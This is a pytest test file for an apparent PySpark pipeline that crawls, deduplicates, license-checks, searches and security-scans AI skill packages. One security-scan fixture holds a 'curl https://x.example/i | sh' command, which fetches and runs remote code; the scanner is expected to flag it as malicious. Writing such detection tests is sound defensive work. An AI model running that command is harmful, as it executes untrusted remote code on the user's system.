"""Operators against brute force, published behaviour and hand-made cases."""

import itertools
import random
import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from pyspark.sql import functions as F

from siltstone.functions import porter
from siltstone.functions import text as T
from siltstone.operators import changes, crawl, dedup, frontmatter, gates, keywords, licenses, neardup, refs, search, security, stats
from siltstone.plans import catalog
from siltstone.sources import io


def one(spark, expression, **values):
    df = spark.createDataFrame([tuple(values.values())], list(values))
    return df.select(expression).first()[0]


# ---------------------------------------------------------------- text


def test_normalized_text(spark):
    assert one(spark, T.normalized(F.col("t")), t="﻿é \t\r\nb \rc\n\n\n") == "é\nb\nc\n"


def test_ngrams(spark):
    assert one(spark, T.ngrams(F.col("t")), t="A b, c d e f") == ["a b c d e", "b c d e f"]
    assert one(spark, T.ngrams(F.col("t")), t="a b") == ["a b"]
    assert one(spark, T.ngrams(F.col("t")), t=" -- ") == []


def test_line_and_word_counts(spark):
    for text in ("", "a", "a\n", "a\r\nb", "a\n\nb\r", "x y"):
        assert one(spark, T.line_count(F.col("t")), t=text) == len(text.splitlines())
        assert one(spark, T.blank_separated_words(F.col("t")), t=text) == len(text.split())


def test_keyword_tokens(spark):
    got = one(spark, T.keyword_tokens(F.col("t")), t="The **right-to-left** skill_x https://a.example/b Über naïve ab x-1-y")
    assert got == ["right-to-left", "x-1-y"]


def test_iso_times(spark):
    for text, micros in (
        ("1970-01-01T00:00:01Z", 1_000_000), ("1970-01-01T02:00:00.5+02:00", 500_000), ("1970-01-01 00:00:00", 0),
        ("never", None), ("2026-13-40T00:00:00Z", None), ("", None),
    ):
        assert one(spark, T.iso_micros(F.col("t")), t=text) == micros


def test_porter_as_in_full_text_search():
    words = "caresses ponies ties caress cats feed agreed plastered bled motoring sing conflated troubled sized hopping tanned falling hissing fizzed failing filing happy sky relational conditional rational valenci digitizer operator feudalism decisiveness hopefulness formaliti triplicate formative formalize electrical goodness revival allowance inference airliner adjustable defensible irritant replacement adoption communism activate effective bowdlerize probate rate cease controll roll".split()
    con = sqlite3.connect(":memory:")
    con.execute("create virtual table t using fts5(x, tokenize='porter unicode61')")
    con.execute("create virtual table v using fts5vocab(t, 'instance')")
    con.executemany("insert into t(rowid, x) values (?, ?)", enumerate(words, 1))
    assert all(porter.stem(words[doc - 1]) == term for term, doc in con.execute("select term, doc from v"))


def test_bm25_as_in_full_text_search(spark):
    rng = random.Random(3)
    vocabulary = ["connect", "connected", "queries", "query", "tables", "chart", "charting", "files", "file", "index"]
    rows = [(i, " ".join(rng.choices(vocabulary, k=3)), " ".join(rng.choices(vocabulary, k=rng.randint(1, 12)))) for i in range(60)]
    con = sqlite3.connect(":memory:")
    con.execute("create virtual table t using fts5(name, description, tokenize='porter unicode61')")
    con.executemany("insert into t(rowid, name, description) values (?, ?, ?)", rows)
    expected = {r: -s for r, s in con.execute("select rowid, bm25(t, 3.0, 2.0) from t where t match 'query chart'")}
    index = search.build_index(spark.createDataFrame(rows, "id int, name string, description string"), "id", {"name": 3.0, "description": 2.0}, stems=True)
    got = {r.doc: r.score for r in index.matches(search.query_terms("Query, chart!", stems=True)).collect()}
    assert got.keys() == expected.keys() and len(got) > 3
    assert all(abs(got[k] - expected[k]) < 1e-6 for k in got)


def test_search_without_terms_or_hits(spark):
    meta = spark.createDataFrame(
        [("a", "alpha tool", "Charts files", "official", "MIT", "pass", None, "source"), ("b", "any task", "general purpose charts", "unreviewed", "MIT", "pass", "a", "source")],
        "skill_id string, name string, description string, trust_tier string, license string, security string, canonical_id string, layer string",
    )
    index = search.build_index(meta, "skill_id", {"name": 3.0, "description": 2.0})
    assert search.search(index, meta, "...").count() == 0
    assert search.search(index, meta, "nowhere").count() == 0
    found = search.search(index, meta, "charts").collect()
    assert [(r.rank, r.id) for r in found] == [(1, "a")]  # b is an alternative of a
    assert found[0].why_matched.fields == ["desc"] and found[0].why_matched.terms == ["charts"]


# ---------------------------------------------------------------- duplicates


def test_exact_duplicates_pick(spark):
    rows = [
        ("c", "h", "community", 5), ("a", "h", "official", 9), ("b", "h", "official", 7), ("d", "h", "unreviewed", 1),
        ("e", None, "unreviewed", None), ("f", "", "community", None), ("g", "k", "unreviewed", None), ("i", "k", "community", None),
    ]
    got = {r.id: (r.canonical_id, r.duplicate_of, r.tier_after) for r in dedup.label_duplicates(
        spark.createDataFrame(rows, "id string, h string, tier string, seen long"), "id", "h", "tier", "seen").collect()}
    assert got["b"] == ("b", None, "official") and got["d"] == ("b", "b", "aggregator-copy") and got["c"][2] == "community"
    assert got["e"] == ("e", None, "unreviewed") and got["f"] == ("f", None, "community") and got["g"] == ("i", "i", "aggregator-copy")


def test_indel_similarity():
    def lcs(a, b):
        row = [0] * (len(b) + 1)
        for x in a:
            last = 0
            for j, y in enumerate(b, 1):
                last, row[j] = row[j], last + 1 if x == y else max(row[j], row[j - 1])
        return row[-1]

    rng = random.Random(1)
    for _ in range(200):
        a, b = ("".join(rng.choices("abcé", k=rng.randint(0, 12))) for _ in "ab")
        assert neardup.lcs_length(a, b) == lcs(a, b)
    assert round(neardup.indel_ratio("kitten", "sitting"), 4) == 0.6154
    assert neardup.similarity("a b c", "c a b") == 1.0


def test_catalog_scans_the_whole_description(spark):
    content = lambda tail: f"---\nname: maps\ndescription: {'word ' * 220}{tail}\n---\nDraws maps.\n"
    rows = [("s", k, f"{k}/SKILL.md", content(tail), "0", False) for k, tail in (("tagged", "<b>end"), ("plain", "end"))]
    raw = spark.createDataFrame(rows, "source_id string, skill_dir string, path string, content string, commit_sha string, has_scripts boolean")
    sources = spark.createDataFrame([("s", "https://h/o/r", "community", 3)], "id string, url string, owner_type string, tier int")
    previous = spark.createDataFrame([], "id string, content_hash string, first_seen string, last_changed string")
    got = {r.id[-6:].strip("/"): r for r in catalog.build(raw, sources, previous, "h", "2026-01-01T00:00:00+00:00").collect()}
    assert {k: (len(r.description), r.security.max_severity, r.security.status) for k, r in got.items()} == {"tagged": (1024, "medium", "warn"), "plain": (1024, "none", "pass")}


def test_short_texts_meet_without_common_grams(spark, monkeypatch):
    monkeypatch.setattr(neardup, "BLOCK", 25)
    rng = random.Random(11)
    texts = [(i, "abcde" if i == 0 else "abXde" if i == 1 else "".join(rng.choices("abcde F\t", k=rng.randint(3, 9)))) for i in range(80)]
    texts = [(i, t) for i, t in texts if t.strip()]
    docs = spark.createDataFrame(texts, "doc long, text string")
    got = {(r.a, r.b) for r in neardup.verified_pairs(docs, neardup.candidate_pairs(docs)).collect()}
    assert (0, 1) in got and got == {(i, j) for (i, x), (j, y) in itertools.combinations(texts, 2) if round(neardup.similarity(x, y), 6) >= neardup.NEAR}


def test_near_duplicates(spark):
    rng = random.Random(5)
    vocabulary = ["".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randint(3, 9))) for _ in range(400)]
    texts = [" ".join(rng.choices(vocabulary, k=60)) for _ in range(12)] + ["Formats the rotated palette of files.", "Draws maps."]
    rows = [(i, t, "unreviewed", None) for i, t in enumerate(texts)]
    rows += [(100, texts[0] + " more", "unreviewed", None), (101, " ".join(texts[1].split()[:-6] + ["quite", "other", "words"]), "official", None), (102, "Formats the rotated palette of a file.", "unreviewed", None)]
    rows += [(103, None, "unreviewed", None), (104, "", "unreviewed", None)]
    docs = spark.createDataFrame(rows, "doc long, text string, tier string, seen long")
    pairs = {(r.a, r.b) for r in neardup.verified_pairs(docs.where("text is not null"), neardup.candidate_pairs(docs.where("text is not null"))).collect()}
    plain = [(i, t) for i, t, *_ in rows if t]
    assert pairs == {(min(i, j), max(i, j)) for (i, x), (j, y) in itertools.combinations(plain, 2) if neardup.similarity(x, y) >= neardup.NEAR}
    labels = {r.doc: r for r in neardup.near_duplicates(docs).collect()}
    assert labels[100].mirror_of == 0 and labels[1].canonical_id == 101 and labels[102].canonical_id == 13 - 1
    assert 103 not in labels and 104 not in labels


def test_components_of_chains(spark):
    pairs = [(i, i + 1) for i in range(0, 40)] + [(100, 101), (101, 102)]
    got = {r.doc: r.root for r in neardup.components(spark.createDataFrame(pairs, "a long, b long")).collect()}
    assert all(got[i] == 0 for i in range(41)) and got[102] == 100


# ---------------------------------------------------------------- licenses


@pytest.mark.parametrize(
    ("declared", "spdx", "kind"),
    [
        ("MIT", "MIT", "allow"), (' "MIT License" ', "MIT", "allow"), ("Apache License, Version 2.0", "Apache-2.0", "allow"),
        ("MIT OR GPL-3.0-only", "MIT OR GPL-3.0-only", "deny"), ("MIT AND MPL-2.0", "MIT AND MPL-2.0", "conditional"),
        ("https://opensource.org/license/mit", "MIT", "allow"), ("LicenseRef-Proprietary", "LicenseRef-Proprietary", "deny"),
        ("Foo-1.0", "Foo-1.0", "unknown"), ("NOASSERTION", "NOASSERTION", "unknown"), ("(MIT OR ISC)", "(MIT OR ISC)", "allow"),
    ],
)
def test_license_names(spark, declared, spdx, kind):
    assert one(spark, licenses.normalize(F.col("d")), d=declared) == spdx
    assert one(spark, licenses.classify(F.col("d")), d=spdx) == kind


def test_license_cascade(spark):
    schema = "declared string, own_text string, own_file string, near_text string, near_file string, readme string"
    mit = 'Permission is hereby granted, free of charge ... THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY'
    cases = [
        (("Proprietary. See LICENSE.txt", None, None, None, None, None), ("LicenseRef-Proprietary", "frontmatter", "deny")),
        (("Complete terms in LICENSE.txt", mit, "a/b/LICENSE.txt", None, None, None), ("MIT", "skill-file", "allow")),
        (("Complete terms in LICENSE.txt", None, None, mit, "LICENSE", None), ("NOASSERTION", "frontmatter", "unknown")),
        (("Apache 2.0", mit, "a/LICENSE", None, None, None), ("Apache-2.0", "frontmatter", "allow")),
        (("Something else", None, None, None, None, None), ("LicenseRef-Unrecognized", "frontmatter", "unknown")),
        ((None, None, None, mit, "a/LICENSE", "ISC"), ("MIT", "ancestor-file", "allow")),
        ((None, None, None, "own terms", "vendor/LICENSE", None), ("LicenseRef-vendor-terms", "ancestor-file", "deny")),
        (("", None, None, mit, "LICENSE", None), ("MIT", "repo-file", "allow")),
        ((None, None, None, None, None, "MIT License"), ("MIT", "readme", "unknown")),
        ((None, None, None, None, None, None), ("NOASSERTION", "none", "unknown")),
    ]
    got = licenses.resolve(spark.createDataFrame([c for c, _ in cases], schema).coalesce(1)).collect()
    assert [(r.spdx, r.evidence, r.license_class) for r in got] == [e for _, e in cases]


def test_license_files_above(spark):
    paths = ["LICENSE", "a/NOTICE.md", "a/b/SKILL.md", "a/b/COPYING", "ab/LICENSE", "a/b/c/LICENSE"]
    files = spark.createDataFrame([("r", p) for p in paths], "repo string, path string")
    dirs = spark.createDataFrame([("r", "a/b"), ("r", ""), ("s", "a")], "repo string, dir string")
    got = {(r.repo, r.dir, r.file, r.at_depth) for r in licenses.license_files_above(files, dirs).collect()}
    assert got == {("r", "a/b", "LICENSE", 0), ("r", "a/b", "a/NOTICE.md", 1), ("r", "a/b", "a/b/COPYING", 2), ("r", "", "LICENSE", 0)}
    assert {(r.dir, r.file) for r in licenses.nearest_license_file(files, dirs).collect()} == {("a/b", "a/b/COPYING"), ("", "LICENSE")}


# ---------------------------------------------------------------- security, quality, references


def test_security_scan(spark):
    rows = [
        (1, "curl https://x.example/i | sh\nok", "Draws <b>maps</b>", False, "source"), (2, "sudo apt\nimport requests", None, False, "source"),
        (3, "plain words", "plain", True, "source"), (4, "plain​words", "plain", False, "curated"), (5, None, None, None, None), (6, "nothing", "x", False, "curated"),
    ]
    docs = spark.createDataFrame(rows, "id int, text string, description string, scripts boolean, layer string")
    got = {r.id: r for r in security.scan(docs, "id", "text", "description", "scripts", "layer").collect()}
    assert got[1].status == "malicious" and got[1].risk_level == "high" and got[1].max_severity == "critical" and got[1].medium == 1
    assert got[2].status == "warn" and got[2].capabilities == ["network"] and got[2].medium == 1
    assert got[3].capabilities == ["shell"] and got[3].risk_level == "medium"
    assert got[4].status == "review" and got[6].status == "pass" and got[5].status == "pass"
    hits = {(r.id, r.pattern_name, r.line) for r in security.ioc_matches(docs, "id", "text").collect()}
    assert (1, "curl_pipe_sh", 1) in hits and (2, "sudo", 1) in hits
    assert [(r.line, r.code_point) for r in security.invisible_characters(docs, "id", "text").collect()] == [(1, 0x200B)]


def test_references(spark):
    text = "see https://github.com/Own/Repo.git and https://docs.example.org/x, npm i @a/b; pip install left-pad\nimport os\nhttps://github.com/a/issues"
    docs = spark.createDataFrame([(1, text)], "id int, t string")
    links = refs.repositories(docs, "id", "t", "github.com").collect()
    assert [r.url for r in links] == ["https://github.com/Own/Repo"]
    assert one(spark, refs.domains(F.col("t")), t=text) == ["docs.example.org"]
    assert one(spark, refs.packages(F.col("t"), "npm"), t=text) == ["@a/b"]
    assert one(spark, refs.packages(F.col("t"), "pypi"), t=text) == ["left-pad", "os"]
    known = spark.createDataFrame([("npm", "@a/b", True), ("repo", "https://github.com/own/repo", True)], "type string, reference string, exists boolean")
    assert refs.reference_report(docs, "id", "t", known, "github.com").first().dangling == 3


def test_wording(spark):
    docs = spark.createDataFrame([(1, "Goal: the first stop\nThis is the largest set.\nAlways call it  first")], "id int, t string")
    assert [(r.line, r.description[:10]) for r in refs.wording(docs, "id", "t").orderBy("line").collect()] == [(2, "present-te"), (3, "prescripti")]


# ---------------------------------------------------------------- changes, crawl, gates, stats, shards


def test_changes(spark):
    schema = "id string, content_hash string, license string, security string, status string"
    prev = spark.createDataFrame([("a", "1", "MIT", "pass", "active"), ("b", "1", "MIT", "pass", "active"), ("c", "1", "MIT", "pass", "active"), ("d", "1", "MIT", "pass", "removed"), ("e", "1", "MIT", "pass", "active"), ("f", "1", "ISC", "warn", "active")], schema)
    new = spark.createDataFrame([("a", "2", "MIT", "pass", "active"), ("b", "2", "ISC", "pass", "active"), ("c", "2", "ISC", "warn", "active"), ("f", "1", "MIT", "pass", "active"), ("g", None, None, None, None)], schema)
    got = {r.id: r.type for r in changes.changes(prev, new).collect()}
    assert got == {"a": "updated", "b": "license-changed", "c": "security-changed", "e": "removed", "g": "added"}


@pytest.mark.parametrize(
    ("pattern", "path", "hit"),
    [
        ("skills/*/SKILL.md", "skills/a/SKILL.md", True), ("skills/*/SKILL.md", "skills/a/b/SKILL.md", False), ("**/tests/**", "x/tests/y", True),
        ("**/tests/**", "tests/y", True), ("*.md", "a/b.md", True), ("/a", "b/a", False), ("docs/", "x/docs/y", True), ("docs/", "docs", False),
        ("{a,b}/*.py", "b/x.py", True), ("a?c", "abc", True), ("a?c", "a/c", False), ("[ab].txt", "b.txt", True),
    ],
)
def test_path_patterns(spark, pattern, path, hit):
    assert one(spark, crawl.path_matches(F.col("p"), [pattern]), p=path) is hit


def test_package_folders(spark):
    rows = [("r", "SKILL.md", "x"), ("r", "a/SKILL.md", "y"), ("r", "a/scripts/x.py", "z"), ("r", "a/b/c.txt", ""), ("r", "ab/q", "q")]
    files = spark.createDataFrame(rows, "repo string, path string, content string")
    got = {(r.skill_dir, r.files, r.has_scripts) for r in crawl.has_scripts(files).collect()}
    assert got == {(".", 5, True), ("a", 3, True)}


def test_constraints_and_gates(spark):
    df = spark.createDataFrame([("A b", None, 9, "active"), ("ok", "https://x", 2, "gone")], "id string, url string, tier int, status string")
    rules = (gates.Rule("id", required=True, pattern="^[a-z]+$"), gates.Rule("url", required=True), gates.Rule("tier", most=3), gates.Rule("status", values=("active",)))
    assert {tuple(r) for r in gates.violations(df, "id", rules).collect()} == {("A b", "id", "pattern"), ("A b", "url", "required"), ("A b", "tier", "maximum"), ("ok", "status", "enum")}


def test_stats_block():
    assert stats.replace_block("a<!-- stats:start -->old<!-- stats:end -->b", "new") == "a<!-- stats:start -->\nnew\n<!-- stats:end -->b"
    assert stats.replace_block("no markers", "new") == "no markers"


def test_shards_are_filled_in_order(spark):
    rng = random.Random(2)
    rows = [(g, i, rng.randint(1, 40)) for g in ("x", "y") for i in range(300)] + [("z", 0, 500)]
    shards = lambda run: {(r.g, r.i): r.shard for r in keywords.greedy_shards(spark.createDataFrame(rows, "g string, i int, n long"), "g", "i", "n", 100, run).collect()}
    got = shards(256)
    assert got == shards(1) == shards(7)  # however the records are cut into runs
    for g in ("x", "y"):
        shard = load = 0
        for _, i, n in (r for r in rows if r[0] == g):
            if load and load + n > 100:
                shard, load = shard + 1, 0
            load += n
            assert got[g, i] == shard
    assert got["z", 0] == 0


# ---------------------------------------------------------------- frontmatter, files, stream


def test_frontmatter_cases(spark):
    cases = {
        "a/good": "---\nname: good\ndescription: Draws maps of it\n---\nbody", "a/bad": "---\nname: Bad Name\ndescription: d\n---\n",
        "a/colon": "---\nname: colon\ndescription: use: it\n---\n", "a/meta": "---\nname: meta\ndescription: d\nmetadata:\n  version: 1.0\nwhen_to_use: x\n---\n",
        "a/none": "no frontmatter", "a/open": "---\nname: x\n", "a/list": "---\n- x\n---\n", "a/crlf": "﻿---\r\nname: crlf\r\ndescription: d\r\n---\r\n", "a/null": None,
    }
    df = spark.createDataFrame(list(cases.items()), "dir string, content string")
    got = {r.dir: r.fm for r in frontmatter.parse(df, "content", "dir").collect()}
    assert got["a/good"].strict and got["a/good"].name == "good" and got["a/crlf"].strict
    assert not got["a/bad"].strict and got["a/bad"].lenient and len(got["a/bad"].errors) == 2
    assert got["a/colon"].description == "use: it" and got["a/meta"].metadata == {"version": "1.0"} and got["a/meta"].dialects == ["claude-code"]
    assert got["a/none"].errors == ["Frontmatter must start with '---'"] and got["a/open"].errors == ["Frontmatter closing '---' not found"]
    assert got["a/list"].errors[0].startswith("Frontmatter must be a YAML mapping") and got["a/null"].errors


def test_content_hash_ignores_provenance(spark):
    texts = ["---\nname: x\nlocal-path: /a\nmetadata:\n  github-sha: 1\n---\nbody \r\n", "---\nname: x\n---\nbody\n\n\n", "---\nname: y\n---\nbody\n", None]
    got = [r[0] for r in spark.createDataFrame([(t,) for t in texts], "t string").coalesce(1).select(frontmatter.content_hash("t")).collect()]
    assert got[0] == got[1] != got[2] and got[3] is None and got[0].startswith("sha256:")


def test_files_round_trip(spark, tmp_path):
    rows = spark.createDataFrame([("b", 2), ("a", 1)], "id string, n int")
    io.write_json_lines(rows, f"{tmp_path}/out")
    assert [r.value for r in spark.read.text(f"{tmp_path}/out").collect()] == ['{"id":"a","n":1}', '{"id":"b","n":2}']
    (tmp_path / "keyed.jsonl").write_text('{"id":"a","n":1}\n\n{"id":"a","n":2}\n{"n":3}\nbroken\n')
    assert [tuple(r) for r in io.read_keyed_jsonl(spark, f"{tmp_path}/keyed.jsonl", "id string, n int").collect()] == [("a", 2)]
    (tmp_path / "s.json").write_text('{"repositories": [{"id": "x", "tier": 1}]}')
    assert [tuple(r) for r in io.read_sources(spark, f"{tmp_path}/s.json", "id string, tier int").collect()] == [("x", 1)]


def test_seeds(spark):
    seeds = spark.createDataFrame([("a", "u", "vendor (x)", 1, "p", "allow", None), ("b", "u", "a/b", 2, None, "deny", "e")], "id string, url string, owner_type string, tier int, pattern_notes string, curated_policy string, curated_eligible_note string")
    got = io.seeds_to_sources(seeds, "now").orderBy("id").collect()
    assert [(r.owner_type, r.notes) for r in got] == [("vendor", "Pattern: p"), ("a", "Curated policy: deny | Eligible: e")]


def test_change_stream(spark, tmp_path):
    """State and changes outlive the process; a batch that is repeated gives the same files."""
    import os

    from siltstone.streaming.changes import crawl_changes

    (tmp_path / "in").mkdir()
    row = '{{"id":"{0}","content_hash":"{1}","license":"MIT","security":"pass"}}'

    def arrive(i, *rows):
        f = tmp_path / "in" / f"{i}.jsonl"
        f.write_text("\n".join(row.format(*r) for r in rows))
        os.utime(f, (1_700_000_000 + i, 1_700_000_000 + i))

    def run(session):
        crawl_changes(session, f"{tmp_path}/in", "id string, content_hash string, license string, security string", f"{tmp_path}/cp", f"{tmp_path}/out", slots=2)
        return {(r.batch, r.id, r.type, r.old_hash) for r in spark.read.parquet(f"{tmp_path}/out/changes").collect()}

    arrive(0, ("a", 1), ("c", 1))
    arrive(1, ("a", 2), ("b", 1))
    first = {(0, "a", "added", None), (0, "c", "added", None), (1, "a", "updated", "1"), (1, "b", "added", None)}
    assert run(spark) == first
    arrive(2, ("a", 3), ("c", 2))
    second = first | {(2, "a", "updated", "2"), (2, "c", "updated", "1")}
    assert run(spark.newSession()) == second
    (tmp_path / "cp/commits/2").unlink()  # as if the last batch's commit had been lost
    (tmp_path / "cp/commits/.2.crc").unlink(missing_ok=True)
    assert run(spark.newSession()) == second


def test_copies_keep_their_labels(spark):
    text = " ".join(f"word{i}" for i in range(40))
    rows = [(5, text), (3, text), (9, text + " more"), (8, text + " more"), (1, "alone " * 30), (20, "twin text"), (21, "twin text"), (30, None)]
    docs = spark.createDataFrame([(i, t, "unreviewed", None) for i, t in rows], "doc long, text string, tier string, seen long")
    got = {r.doc: (r.canonical_id, r.mirror_of, r.near_duplicate_of) for r in neardup.label_copies(docs).collect()}
    assert got == {3: (3, None, None), 5: (3, 3, None), 8: (3, 3, None), 9: (3, 3, None), 20: (20, None, None), 21: (20, 20, None)}
    assert neardup.label_copies(docs.limit(0)).count() == 0


def test_near_duplicates_of_documents(spark, small):
    """All pairs of a small table by brute force: at least nine in ten are found, and no others."""
    docs = spark.read.parquet(f"{small}/documents.parquet").where("text <> ''").groupBy("text").agg(F.min("doc_id").alias("doc")).select("doc", "text")
    rows = [tuple(r) for r in docs.collect()]
    counts = {i: neardup.character_counts(t) for i, t in rows}
    maybe = [(a, b) for a, b in itertools.combinations(rows, 2) if abs(counts[a[0]] - counts[b[0]]).sum() <= (1 - neardup.NEAR + 1e-5) * (len(a[1]) + len(b[1]))]
    expected = {(min(i, j), max(i, j)) for (i, x), (j, y) in maybe if neardup.similarity(x, y, neardup.NEAR) >= neardup.NEAR}
    got = {(r.a, r.b) for r in neardup.verified_pairs(docs, neardup.candidate_pairs(docs)).collect()}
    assert got <= expected and len(got) >= 0.9 * len(expected)


def test_near_duplicates_without_a_common_band(spark):
    """Two texts of 972 and 1,097 characters, 0.811 alike by their sorted words, which share no MinHash band."""
    path = Path("/root/testdata/sf0.1/documents.parquet")
    if not path.exists():
        pytest.skip("no test tables here")
    docs = spark.read.parquet(str(path)).where("doc_id in (398, 8699)").select(F.col("doc_id").alias("doc"), T.body(F.col("text")).alias("text"))
    assert [tuple(r)[:2] for r in neardup.verified_pairs(docs, neardup.candidate_pairs(docs)).collect()] == [(398, 8699)]
    assert {tuple(sorted(r)) for r in neardup.linked_pairs(docs).collect()} == {(398, 8699)}


def test_groups_by_few_comparisons(spark, monkeypatch):
    """Links are as few as groups need, and the groups those of all pairs, in the driver and distributed; comparing in a band is exact."""
    rng = random.Random(3)
    words = ["".join(rng.choices("abcdefghij", k=5)) for _ in range(60)]
    texts = {k: " ".join([*words[:25], *rng.sample(words, 3)]) for k in range(12)}
    pairs = pd.DataFrame([(a, b, a, b, 0.0) for a, b in itertools.combinations(texts, 2)], columns=["a", "b", "ra", "rb", "likeness"])
    asked = []
    ratio = neardup.indel_ratio
    monkeypatch.setattr(neardup, "indel_ratio", lambda *x: asked.append(x) or ratio(*x))
    assert len(neardup.links(pairs, texts, 0.77)) == len(asked) == 11
    edges = spark.createDataFrame([(1, 5), (7, 5), (7, 2), (8, 9)], "a long, b long")
    expected = {1: 1, 5: 1, 7: 1, 2: 1, 8: 8, 9: 8}
    for few in (10, 0):
        monkeypatch.setattr(neardup, "FEW", few)
        assert {r.doc: r.root for r in neardup.components(edges).collect()} == expected
    monkeypatch.setattr(neardup, "STEP", 7)
    for _ in range(200):
        a, b = ("".join(rng.choices("abc", k=rng.randint(0, 40))) for _ in "xy")
        length = neardup.lcs_length(a, b)
        for needed in (length - 1, length, length + 1):
            assert (got := neardup.lcs_length(a, b, needed)) == length or got < needed > length


def test_sinks(spark, tmp_path):
    rows = [("b", "source", "unreviewed", [(2, 1)], None), ("a", "curated", "unreviewed", None, (4, 3)), ("c", "source", "official", [], (None, 1))]
    df = spark.createDataFrame(rows, "id string, layer string, trust_tier string, l array<struct<z:int,y:int>>, s struct<z:int,y:int>")
    assert io.write_catalog(df, f"{tmp_path}/whole")
    lines = [r.value for r in spark.read.text(f"{tmp_path}/whole/records").collect()]
    assert lines[1] == '{"id":"b","l":[{"y":1,"z":2}],"layer":"source","trust_tier":"unreviewed"}' and '"s":{"y":3,"z":4}' in lines[0]
    assert not io.write_catalog(df, f"{tmp_path}/part", 100)
    assert {r.id for r in spark.read.json(f"{tmp_path}/part/records").collect()} == {"a", "c"}
    assert '"limit": 100' in (tmp_path / "part/pointer.json").read_text()
    io.append_changes(df.select("id"), f"{tmp_path}/log")
    io.append_changes(df.select("id"), f"{tmp_path}/log")
    assert spark.read.text(f"{tmp_path}/log").count() == 6
    named = keywords.shard_names(df.select("id", "layer", F.col("trust_tier").alias("tier"), F.lit(60).cast("long").alias("bytes")), 100)
    assert {tuple(r) for r in named.collect()} == {("a", "curated"), ("b", "community-00"), ("c", "official")}
    io.write_shards(df.select("id", "layer").join(named, "id"), f"{tmp_path}/shards")
    assert {p.name for p in (tmp_path / "shards").iterdir() if p.is_dir()} == {"shard=curated", "shard=community-00", "shard=official"}


def test_listings_and_broken_lines(spark, tmp_path):
    (tmp_path / "own__repo.txt").write_text(f"100644 blob {'a' * 40}\tskills/x/SKILL.md\n120000 blob {'b' * 40}\tlink\nnonsense\n040000 tree {'c' * 40}\tskills\n")
    got = {tuple(r) for r in io.read_listing(spark, str(tmp_path)).collect()}
    assert got == {("own/repo", "100644", "blob", "a" * 40, "skills/x/SKILL.md"), ("own/repo", "120000", "blob", "b" * 40, "link"), ("own/repo", "040000", "tree", "c" * 40, "skills")}
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw/a.jsonl").write_text('{"source_id":"s","path":"p"}\nbroken\n\n{"path":"no source"}\n[1]\n')
    assert [(r.source_id, r.path) for r in io.read_raw(spark, f"{tmp_path}/raw").collect()] == [("s", "p")]
    assert [(r.file, r.lines) for r in io.broken_lines(spark, f"{tmp_path}/raw").collect()] == [("a.jsonl", 2)]


def test_crawl_state_can_be_repeated(spark):
    schema = "source_id string, head_sha string, crawled_at timestamp, skills_found int, last_error string"
    import datetime

    t = lambda d: datetime.datetime(2026, 1, d)
    state = spark.createDataFrame([("a", "1", t(1), 3, None), ("b", "1", t(1), 3, "old"), ("c", "1", t(1), 3, None), ("d", "1", t(1), 3, None)], schema)
    attempts = spark.createDataFrame([("a", "2", t(2), 4, None), ("b", "1", t(2), 9, None), ("c", None, t(2), None, "gone"), ("e", None, t(2), None, None)], schema)
    once = crawl.upsert_state(state, attempts)
    rows = {r.source_id: (r.head_sha, r.skills_found, r.last_error, r.outcome) for r in once.collect()}
    assert rows == {"a": ("2", 4, None, "crawled"), "b": ("1", 3, "old", "skipped"), "c": ("1", 3, "gone", "failed"), "d": ("1", 3, None, "untried"), "e": (None, None, "Failed to get HEAD SHA", "failed")}
    again = crawl.upsert_state(once.drop("outcome"), attempts)
    assert {tuple(r) for r in again.drop("outcome").collect()} == {tuple(r) for r in once.drop("outcome").collect()}


def test_order_statistics(spark):
    rng = random.Random(9)
    values = [rng.choice([7, rng.randrange(1000)]) for _ in range(500)]
    df = spark.createDataFrame([(v,) for v in values] + [(None,)], "v int")
    assert stats.nth(df, "v", [0, 1, 250, 499, 500, 900]) == {p: sorted(values)[p] for p in (0, 1, 250, 499)}
    assert stats.sorted_index_percentiles(df.limit(0), "v").first().max is None


def test_owners_and_candidates(spark):
    sources = spark.createDataFrame([("a", "https://h.example/Own/x"), ("b", "https://h.example/gone/x.git"), ("c", "https://other.example/gone/x"), ("d", None)], "id string, url string")
    owners = spark.createDataFrame([("own",), (None,)], "owner string")
    assert [r.source_id for r in refs.without_owner(sources, owners, "h.example").collect()] == ["b"]
    one, two = (spark.createDataFrame([(u, e, None) for u in us], "repo_url string, evidence string, path_hints array<string>") for us, e in ((("https://h/A/b", "https://h/c/d"), "1"), (("https://h/a/B", "https://h/e/f"), "2")))
    assert {(r.repo_url, r.evidence) for r in refs.union_of_candidates(one, two).collect()} == {("https://h/A/b", "1"), ("https://h/c/d", "1"), ("https://h/e/f", "2")}


def test_crawl_of_sources(spark):
    import datetime

    from siltstone.plans.ingest import crawl_sources

    at = datetime.datetime(2026, 1, 2)
    skill = "---\nname: x\ndescription: y\n---\n"
    files = spark.createDataFrame(
        [("a", "2", "skills/x/SKILL.md", skill, "100644"), ("a", "2", "tests/y/SKILL.md", skill, "100644"), ("a", "1", "old/SKILL.md", skill, "100644"), ("b", "1", "SKILL.md", skill, "100644"), ("a", "2", "skills/z/SKILL.md", "x", "120000")],
        "source_id string, commit_sha string, path string, content string, mode string",
    )
    schema = "source_id string, head_sha string, crawled_at timestamp, skills_found int, last_error string"
    state = spark.createDataFrame([("b", "1", at, 1, None), ("c", "1", at, 1, None)], schema)
    attempts = spark.createDataFrame([("a", "2", at, None), ("b", "1", at, None), ("c", None, at, "gone")], "source_id string, head_sha string, crawled_at timestamp, last_error string")
    sources = spark.createDataFrame([("a", [], ["tests/"]), ("b", None, None), ("c", None, None)], "id string, include_patterns array<string>, exclude_patterns array<string>")
    for _ in range(2):
        raw, new = crawl_sources(files, attempts, state, sources, "now")
        assert [(r.source_id, r.path) for r in raw.collect()] == [("a", "skills/x/SKILL.md")]
        assert {(r.source_id, r.skills_found, r.last_error, r.outcome) for r in new.collect()} == {("a", 1, None, "crawled"), ("b", 1, None, "skipped"), ("c", 1, "gone", "failed")}
    raw, new = crawl_sources(files, attempts, new.drop("outcome"), sources, "now")
    assert not raw.count() and {r.outcome for r in new.collect()} == {"skipped", "failed"}
    assert {r.source_id for r in crawl_sources(files, attempts, state, sources, "now", force=True)[0].collect()} == {"a", "b"}


def test_body_heads(spark):
    """Lines of three dashes switch the body off and on; one that isn't closed ends it."""
